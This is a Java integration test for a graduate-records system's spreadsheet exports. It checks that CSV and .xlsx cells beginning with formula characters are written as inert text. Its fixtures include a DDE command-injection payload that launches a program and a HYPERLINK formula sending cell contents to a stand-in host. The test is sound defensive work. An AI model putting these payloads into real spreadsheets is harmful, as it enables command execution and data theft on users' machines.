package org.leye.casework.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.leye.casework.audit.AuditLog;
import org.leye.casework.security.CurrentUser;
import org.leye.casework.security.Role;
import org.leye.casework.support.Api;
import org.leye.casework.support.IntegrationTest;
import org.leye.casework.support.TestGraduates;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.context.support.StaticMessageSource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.transaction.PlatformTransactionManager;

/**
 * Spreadsheet formulas typed into a graduate's record reach no export alive: every text cell
 * starting with {@code = + - @}, a tab or a carriage return is written with a {@code '} in front,
 * in CSV and in .xlsx; numbers stay numbers.
 */
@IntegrationTest
class ExportFormulaCellsTest {

    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    static final String ENPING = "440785";
    /** A cohort of its own: no other test registers graduates of 1994. */
    static final int YEAR = 1994;
    static final String HYPERLINK = "=HYPERLINK(\"http://x.example/\"&A1,\"查看\")";

    static final int NAME = 1;
    static final int UNIVERSITY = 5;
    static final int MAJOR = 6;
    static final int GRADUATION_YEAR = 8;
    static final int EMPLOYER = 28;

    @Autowired
    TestRestTemplate rest;

    @Autowired
    AuditLog audit;

    @Autowired
    PlatformTransactionManager transactions;

    @Test
    void formulasTypedIntoARecordReachTheLedgerCsvAndXlsxAsText() throws Exception {
        String marker = "式" + TestGraduates.tag();
        Api city = Api.as(rest, "sup.city");
        long a = register(city, "+" + marker + "甲", "-" + marker + "大学", HYPERLINK);
        register(city, "-" + marker + "乙", "五邑大学", "-1");
        register(city, "@" + marker + "丙", "五邑大学", "+会计学"); // the registry strips a leading tab
        city.post("/api/graduates/" + a + "/destination", Api.map("code", "11", "date", LocalDate.of(2024, 7, 1)
                .toString(), "employer", "@" + marker + "公司")).expect(200);
        String path = "/api/reports/ledger?district=" + ENPING + "&graduationYear=" + YEAR;

        List<List<String>> csv = mine(readCsv(download(path, "text/csv")), marker);
        assertThat(csv).hasSize(3);
        assertThat(csv.get(0).get(NAME)).isEqualTo("'+" + marker + "甲");
        assertThat(csv.get(0).get(UNIVERSITY)).isEqualTo("'-" + marker + "大学");
        assertThat(csv.get(0).get(MAJOR)).isEqualTo("'" + HYPERLINK);
        assertThat(csv.get(0).get(EMPLOYER)).isEqualTo("'@" + marker + "公司");
        assertThat(csv.get(1).get(NAME)).isEqualTo("'-" + marker + "乙");
        assertThat(csv.get(1).get(MAJOR)).isEqualTo("'-1");
        assertThat(csv.get(2).get(NAME)).isEqualTo("'@" + marker + "丙");
        assertThat(csv.get(2).get(MAJOR)).isEqualTo("'+会计学");
        assertThat(csv.get(0).get(GRADUATION_YEAR)).isEqualTo(String.valueOf(YEAR));

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download(path, XLSX)))) {
            List<Row> rows = mineXlsx(workbook.getSheet("实名服务台账"), marker);
            assertThat(rows).hasSize(3);
            assertThat(text(rows.get(0), NAME)).isEqualTo("'+" + marker + "甲");
            assertThat(text(rows.get(0), UNIVERSITY)).isEqualTo("'-" + marker + "大学");
            assertThat(text(rows.get(0), MAJOR)).isEqualTo("'" + HYPERLINK);
            assertThat(text(rows.get(0), EMPLOYER)).isEqualTo("'@" + marker + "公司");
            assertThat(text(rows.get(1), MAJOR)).isEqualTo("'-1");
            assertThat(text(rows.get(2), MAJOR)).isEqualTo("'+会计学");
            for (Row row : rows) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("no formula cell").isNotEqualTo(CellType.FORMULA);
                }
                assertThat(row.getCell(0).getCellType()).as("the sequence number").isEqualTo(CellType.NUMERIC);
                assertThat(row.getCell(GRADUATION_YEAR).getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(row.getCell(GRADUATION_YEAR).getNumericCellValue()).isEqualTo(YEAR);
            }
        }
    }

    /** The quarterly report's rows through the same rule: hostile names and codes as text, numbers (negative too) as numbers. */
    @Test
    void quarterlyRowsNeutraliseTextAndKeepNumbersAsNumbers() throws Exception {
        StaticMessageSource messages = new StaticMessageSource();
        messages.addMessage("report.total", Locale.SIMPLIFIED_CHINESE, "合计");
        ReportExports exports = new ReportExports(null, null, null, null, messages, audit, transactions);
        CurrentUser city = new CurrentUser("sup.city", "市级督导", Role.SUPERVISOR, null, null);
        ReportViews.QuarterRow hostile = new ReportViews.QuarterRow("-440785", "=cmd|' /C calc'!A0", 5, 1, 1, 3, 1, 0, 2, 1,
                new BigDecimal("-0.2000"));
        ReportViews.QuarterRow total = new ReportViews.QuarterRow("", "合计", 5, 1, 1, 3, 1, 0, 2, 1,
                new BigDecimal("0.2000"));
        ReportViews.Quarterly report = new ReportViews.Quarterly("2024Q3", LocalDate.of(2024, 7, 1),
                LocalDate.of(2024, 9, 30), 2024, null, new BigDecimal("0.90"), List.of(hostile), total);

        ByteArrayOutputStream csvBytes = new ByteArrayOutputStream();
        exports.quarterly(report, city, TableWriter.csv(csvBytes));
        List<List<String>> csv = readCsv(csvBytes.toByteArray());
        assertThat(csv.get(1).subList(0, 3)).containsExactly("'-440785", "'=cmd|' /C calc'!A0", "5");
        assertThat(csv.get(1).get(10)).as("a negative number is a number, not text").isEqualTo("-0.2000");

        ByteArrayOutputStream xlsxBytes = new ByteArrayOutputStream();
        exports.quarterly(report, city, TableWriter.xlsx(xlsxBytes, "季度进展"));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsxBytes.toByteArray()))) {
            Row row = workbook.getSheet("季度进展").getRow(1);
            assertThat(text(row, 0)).isEqualTo("'-440785");
            assertThat(text(row, 1)).isEqualTo("'=cmd|' /C calc'!A0");
            assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(5);
            assertThat(row.getCell(10).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(row.getCell(10).getNumericCellValue()).isEqualTo(-0.2);
        }
    }

    /** The progress report's rows through the same rule: hostile names and codes as text, numbers as numbers. */
    @Test
    void progressRowsNeutraliseTextAndKeepNumbersAsNumbers() throws Exception {
        StaticMessageSource messages = new StaticMessageSource();
        messages.addMessage("report.total", Locale.SIMPLIFIED_CHINESE, "合计");
        ReportExports exports = new ReportExports(null, null, null, null, messages, audit, transactions);
        CurrentUser city = new CurrentUser("sup.city", "市级督导", Role.SUPERVISOR, null, null);
        ReportViews.ProgressRow hostile = new ReportViews.ProgressRow("-440785", "=cmd|' /C calc'!A0", 5, 4, 1, 2,
                new BigDecimal("-0.4000"), 2, 1, new BigDecimal("0.5000"), 1, new BigDecimal("0.5000"), 1, 1);
        ReportViews.ProgressRow total = new ReportViews.ProgressRow(null, null, 5, 4, 1, 2, new BigDecimal("0.4000"),
                2, 1, new BigDecimal("0.5000"), 1, new BigDecimal("0.5000"), 1, 1);
        ReportViews.Checkpoint checkpoint = new ReportViews.Checkpoint(LocalDate.of(2024, 9, 30), true,
                new ReportViews.Share(10, 8, new BigDecimal("0.8000")),
                new ReportViews.TargetStatus(new BigDecimal("0.70"), LocalDate.of(2024, 7, 31), new BigDecimal("0.70"),
                        ReportViews.Judgement.MET), List.of(hostile), total);
        ReportViews.Progress report = new ReportViews.Progress(null, LocalDate.of(2024, 9, 30), 2024, null,
                List.of(checkpoint));

        ByteArrayOutputStream csvBytes = new ByteArrayOutputStream();
        exports.progress(report, city, TableWriter.csv(csvBytes));
        List<List<String>> csv = readCsv(csvBytes.toByteArray());
        assertThat(csv.get(1).subList(2, 5)).containsExactly("'-440785", "'=cmd|' /C calc'!A0", "5");
        assertThat(csv.get(1).get(8)).as("a negative number is a number, not text").isEqualTo("-0.4000");

        ByteArrayOutputStream xlsxBytes = new ByteArrayOutputStream();
        exports.progress(report, city, TableWriter.xlsx(xlsxBytes, "进展报告"));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsxBytes.toByteArray()))) {
            Row row = workbook.getSheet("进展报告").getRow(1);
            assertThat(text(row, 2)).isEqualTo("'-440785");
            assertThat(text(row, 3)).isEqualTo("'=cmd|' /C calc'!A0");
            assertThat(row.getCell(4).getNumericCellValue()).isEqualTo(5);
            assertThat(row.getCell(8).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(row.getCell(8).getNumericCellValue()).isEqualTo(-0.4);
            assertThat(workbook.getSheet("进展报告").getRow(2).getCell(14).getNumericCellValue()).isEqualTo(0.8);
        }
    }

    long register(Api api, String name, String university, String major) {
        Map<String, Object> body = TestGraduates.graduate(name, ENPING);
        body = TestGraduates.with(body, "university", university);
        body = TestGraduates.with(body, "major", major);
        body = TestGraduates.with(body, "graduationYear", YEAR);
        return api.post("/api/graduates", body).expect(201).json().path("id").asLong();
    }

    byte[] download(String path, String accept) {
        HttpHeaders headers = new HttpHeaders();
        headers.setBasicAuth("sup.city", "demo");
        headers.setAccept(List.of(MediaType.parseMediaType(accept)));
        var response = rest.exchange(path, HttpMethod.GET, new HttpEntity<>(headers), byte[].class);
        assertThat(response.getStatusCode().value()).isEqualTo(200);
        return response.getBody();
    }

    /** CSV as Excel reads it: UTF-8 after the byte-order mark, quoted cells unquoted. */
    static List<List<String>> readCsv(byte[] body) throws IOException {
        String text = new String(body, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        List<List<String>> rows = new ArrayList<>();
        for (CSVRecord record : CSVFormat.DEFAULT.parse(new StringReader(text.substring(1)))) {
            rows.add(record.toList());
        }
        return rows;
    }

    static List<List<String>> mine(List<List<String>> rows, String marker) {
        return rows.stream().filter(r -> r.size() > NAME && r.get(NAME).contains(marker)).toList();
    }

    static List<Row> mineXlsx(Sheet sheet, String marker) {
        List<Row> mine = new ArrayList<>();
        for (Row row : sheet) {
            Cell name = row.getCell(NAME);
            if (name != null && name.getCellType() == CellType.STRING && name.getStringCellValue().contains(marker)) {
                mine.add(row);
            }
        }
        return mine;
    }

    static String text(Row row, int column) {
        Cell cell = row.getCell(column);
        assertThat(cell.getCellType()).as("column %d is text", column).isEqualTo(CellType.STRING);
        return cell.getStringCellValue();
    }
}
